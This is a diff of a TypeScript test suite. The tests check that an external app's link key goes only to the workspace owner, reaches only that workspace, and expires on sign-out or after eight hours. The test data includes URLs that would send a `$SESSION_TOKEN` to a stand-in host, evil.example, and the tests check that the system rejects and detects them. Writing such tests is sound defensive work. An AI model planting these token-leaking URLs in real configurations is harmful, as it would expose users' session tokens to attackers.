@@ -1,4 +1,4 @@
-// External apps that receive a key: who gets one, what it allows, and when it ends.
+// Keys in links of external apps: who gets one, what it allows, and when it expires.
 import { describe, expect, test } from "bun:test";
 import { uuidFromBytes } from "#base/ids.ts";
 import { parseLinkTarget } from "#base/links/external-link.ts";
@@ -13,7 +13,7 @@ import { awaitBuild, createWorkspace } from "#test/support/workspaces.ts";
 import { connectAgent } from "../agents/rpc-agent.ts";
 import { CALLERS, openSharedWorkspace } from "../workspaces/shared-workspace.ts";
 
-const PLANTED = "vscode://x.y/open?url=https%3A%2F%2Fevil.example&token=$SESSION_TOKEN";
+const PLANTED_URL = "vscode://x.y/open?url=https%3A%2F%2Fevil.example&token=$SESSION_TOKEN";
 const APPS = [
   {
     slug: "editor",
@@ -35,20 +35,20 @@ const shared = await forFile(
 const { server, clients, workspace } = shared;
 const owner = clients.owner;
 const agent_id = workspace.latest_build.resources[0]?.agents?.[0]?.id as string;
-const linkPath = (slug: string, agent = agent_id) => `/api/v2/workspaceagents/${agent}/apps/${slug}/link` as const;
+const toLinkPath = (slug: string, agent = agent_id) => `/api/v2/workspaceagents/${agent}/apps/${slug}/link` as const;
 const getRejection = async (client: Client, slug: string, agent?: string): Promise<[number, string]> => {
-  const answer = await client.fetch("POST", linkPath(slug, agent));
-  const { message, detail } = (await answer.json()) as { message: string; detail?: string };
-  return [answer.status, `${message} ${detail}`];
+  const response = await client.fetch("POST", toLinkPath(slug, agent));
+  const { message, detail } = (await response.json()) as { message: string; detail?: string };
+  return [response.status, `${message} ${detail}`];
 };
-const keyIn = (url: string): string => new URL(url).searchParams.get("token") ?? "";
-const newKey = async (client: Client = owner): Promise<string> =>
-  keyIn((await client.post<{ url: string }>(linkPath("editor"))).url);
+const parseKey = (url: string): string => new URL(url).searchParams.get("token") ?? "";
+const createKey = async (client: Client = owner): Promise<string> =>
+  parseKey((await client.post<{ url: string }>(toLinkPath("editor"))).url);
 
 describe("the link of an external app", () => {
-  test("[AX-18] gets a key for the workspace's owner alone", async () => {
+  test("[AX-18] gets a key only for the workspace's owner", async () => {
     const statuses = await Promise.all(
-      CALLERS.map(async (name) => [name, (await clients[name].fetch("POST", linkPath("editor"))).status]),
+      CALLERS.map(async (name) => [name, (await clients[name].fetch("POST", toLinkPath("editor"))).status]),
     );
     expect(Object.fromEntries(statuses)).toEqual({
       guest: 401,
@@ -64,7 +64,7 @@ describe("the link of an external app", () => {
     });
   });
 
-  test("[AX-18] gets no key for a scheme that is not allowed, for a web page, or without a placeholder", async () => {
+  test("[AX-18] gets no key for a forbidden scheme, for a web page, or without a placeholder", async () => {
     expect(await getRejection(owner, "bridge")).toEqual([403, expect.stringContaining("external_app_schemes")]);
     for (const slug of ["page", "plain", "inside"]) {
       expect([slug, ...(await getRejection(owner, slug))]).toEqual([
@@ -81,7 +81,7 @@ describe("the link of an external app", () => {
     const { agent: child, appCreationErrors } = await parent.agent.createSubAgent({
       name: "devcontainer",
       apps: [
-        { slug: "planted", external: true, url: PLANTED },
+        { slug: "planted", external: true, url: PLANTED_URL },
         { slug: "fine", external: true, url: "vscode://x.y/" },
       ],
     });
@@ -89,13 +89,13 @@ describe("the link of an external app", () => {
       { index: 0, field: "url", error: expect.stringContaining("$SESSION_TOKEN") },
     ]);
     const child_id = uuidFromBytes(child?.id as Uint8Array);
-    // As stored by a server of an earlier version.
+    // A row that an earlier version of the server could have stored.
     const { store } = getContext(server);
     const row = {
       agent_id: child_id,
       slug: "planted",
       external: true,
-      url: PLANTED,
+      url: PLANTED_URL,
       display_name: "Docs",
       open_in: "tab",
     };
@@ -107,28 +107,28 @@ describe("the link of an external app", () => {
 });
 
 describe("the key in the link of an external app", () => {
-  test("[ID-28] gives access to its workspace and to nothing else of its user", async () => {
-    const other = await createWorkspace(owner, shared.template_id, "other");
-    const other_agent = (await awaitBuild(owner, other.id)).latest_build.resources[0]?.agents?.[0];
-    const client = owner.withToken(await newKey());
+  test("[ID-28] gives access only to its workspace", async () => {
+    const otherWorkspace = await createWorkspace(owner, shared.template_id, "other");
+    const otherAgent = (await awaitBuild(owner, otherWorkspace.id)).latest_build.resources[0]?.agents?.[0];
+    const client = owner.withToken(await createKey());
     expect((await client.get<{ username: string }>("/api/v2/users/me")).username).toBe("ada");
     expect(
       (await client.get<{ workspaces: Workspace[] }>("/api/v2/workspaces")).workspaces.map(({ id }) => id),
     ).toEqual([shared.id]);
     expect((await client.get<Workspace>("/api/v2/users/me/workspace/dev")).id).toBe(shared.id);
     expect((await client.fetch("GET", `/api/v2/workspaceagents/${agent_id}`)).status).toBe(200);
-    const refused: [string, string, unknown?][] = [
-      ["GET", `/api/v2/workspaces/${other.id}`],
+    const forbiddenCalls: [string, string, unknown?][] = [
+      ["GET", `/api/v2/workspaces/${otherWorkspace.id}`],
       ["GET", "/api/v2/users/me/workspace/other"],
-      ["GET", `/api/v2/workspaces/${other.id}/builds`],
-      ["POST", `/api/v2/workspaces/${other.id}/builds`, { transition: "stop" }],
-      ["GET", `/api/v2/workspacebuilds/${other.latest_build.id}`],
-      ["GET", `/api/v2/workspacebuilds/${other.latest_build.id}/logs`],
-      ["GET", `/api/v2/workspaceagents/${other_agent?.id}`],
-      ["GET", `/api/v2/workspaceagents/${other_agent?.id}/files?path=/`],
+      ["GET", `/api/v2/workspaces/${otherWorkspace.id}/builds`],
+      ["POST", `/api/v2/workspaces/${otherWorkspace.id}/builds`, { transition: "stop" }],
+      ["GET", `/api/v2/workspacebuilds/${otherWorkspace.latest_build.id}`],
+      ["GET", `/api/v2/workspacebuilds/${otherWorkspace.latest_build.id}/logs`],
+      ["GET", `/api/v2/workspaceagents/${otherAgent?.id}`],
+      ["GET", `/api/v2/workspaceagents/${otherAgent?.id}/files?path=/`],
       ["POST", "/api/v2/users/me/keys"],
       ["POST", "/api/v2/users/me/keys/tokens", {}],
-      ["POST", linkPath("editor")],
+      ["POST", toLinkPath("editor")],
       ["GET", "/api/v2/users/me/keys/tokens"],
       ["GET", "/api/v2/users/me/gitsshkey"],
       ["GET", "/api/v2/users"],
@@ -137,36 +137,37 @@ describe("the key in the link of an external app", () => {
       ["DELETE", `${shared.path}`],
       ["PATCH", `${shared.path}/acl`, { user_roles: {} }],
     ];
-    for (const [method, path, body] of refused) {
+    for (const [method, path, body] of forbiddenCalls) {
       const { status } = await client.fetch(method, path as "/api/v2/users", body as never);
       expect([method, path, status >= 400 && status < 500]).toEqual([method, path, true]);
     }
-    const app = await fetch(new URL("/@ada/other.dev/apps/9999/", server.url), {
+    const appResponse = await fetch(new URL("/@ada/other.dev/apps/9999/", server.url), {
       headers: { "Service-Session-Token": client.token ?? "" },
     });
-    expect(app.status).toBe(404);
+    expect(appResponse.status).toBe(404);
   });
 
-  test("[ID-28] is valid for this workspace only, also if its user owns the deployment", async () => {
+  test("[ID-28] is valid only for its workspace, even if its user owns the deployment", async () => {
     const { template_id } = shared;
     const admin = await new Client(server.url).signIn(ADMIN.email, ADMIN.password);
     const { id } = await createWorkspace(admin, template_id, "bosses");
-    const ownBuild = await awaitBuild(admin, id);
-    const agent = ownBuild.latest_build.resources[0]?.agents?.[0]?.id as string;
+    const adminsWorkspace = await awaitBuild(admin, id);
+    const agent = adminsWorkspace.latest_build.resources[0]?.agents?.[0]?.id as string;
     const { key } = await admin.post<{ key: string }>(`/api/v2/workspaceagents/${agent}/keys`);
     const client = admin.withToken(key);
     expect((await client.fetch("GET", `/api/v2/workspaces/${id}`)).status).toBe(200);
     expect((await client.fetch("GET", `/api/v2/workspaces/${shared.id}`)).status).toBe(404);
     expect(
-      (await client.get<{ workspaces: Workspace[] }>("/api/v2/workspaces")).workspaces.map((one) => one.id),
+      (await client.get<{ workspaces: Workspace[] }>("/api/v2/workspaces")).workspaces.map((listed) => listed.id),
     ).toEqual([id]);
     expect((await client.fetch("GET", "/api/v2/users")).status).toBe(403);
   });
 
-  test("[ID-28] ends when its user signs out, with its open connections, and after 8 hours regardless of use", async () => {
+  test("[ID-28] is revoked with its open connections when the user signs out, and expires after 8 hours", async () => {
     const admin = await new Client(server.url).signIn(ADMIN.email, ADMIN.password);
-    const make = async () => (await admin.post<{ key: string }>(`/api/v2/workspaceagents/${agent_id}/keys`)).key;
-    const [first, second] = [await make(), await make()];
+    const createAdminKey = async () =>
+      (await admin.post<{ key: string }>(`/api/v2/workspaceagents/${agent_id}/keys`)).key;
+    const [first, second] = [await createAdminKey(), await createAdminKey()];
     const url = new URL(`/api/v2/workspaces/${shared.id}/watch-ws`, server.url);
     url.protocol = "ws:";
     const socket = new WebSocket(url, { headers: { "Service-Session-Token": first } } as never);
@@ -181,7 +182,7 @@ describe("the key in the link of an external app", () => {
     expect((await admin.withToken(first).fetch("GET", "/api/v2/users/me")).status).toBe(401);
     expect((await admin.withToken(second).fetch("GET", "/api/v2/users/me")).status).toBe(401);
 
-    const client = owner.withToken(await newKey());
+    const client = owner.withToken(await createKey());
     for (let hour = 1; hour < 8; hour += 1) {
       clock.advance(3_600_000);
       expect((await client.fetch("GET", "/api/v2/users/me")).status).toBe(200);
@@ -190,11 +191,11 @@ describe("the key in the link of an external app", () => {
     expect((await client.fetch("GET", "/api/v2/users/me")).status).toBe(401);
   });
 
-  test("[ID-28] is in the list of tokens, can be deleted there, and cannot be widened", async () => {
-    const id = (await newKey()).slice(0, 10);
+  test("[ID-28] is in the list of tokens, can be deleted, and cannot get more scopes", async () => {
+    const id = (await createKey()).slice(0, 10);
     const tokens =
       await owner.get<{ id: string; token_name: string; scopes: string[] }[]>("/api/v2/users/me/keys/tokens");
-    const token = tokens.find((one) => one.id === id);
+    const token = tokens.find((listed) => listed.id === id);
     expect(token?.token_name).toMatch(/^dev-editor-/);
     expect(token?.scopes).not.toContain("all");
     const path = `/api/v2/users/me/keys/tokens/${token?.token_name}` as const;
@@ -204,7 +205,7 @@ describe("the key in the link of an external app", () => {
 });
 
 test.each([
-  [PLANTED, { scheme: "vscode", authority: "x.y", hosts: ["evil.example"] }],
+  [PLANTED_URL, { scheme: "vscode", authority: "x.y", hosts: ["evil.example"] }],
   [
     "microsoft-edge:https://evil.example/?t=$SESSION_TOKEN",
     { scheme: "microsoft-edge", authority: "", hosts: ["evil.example"] },
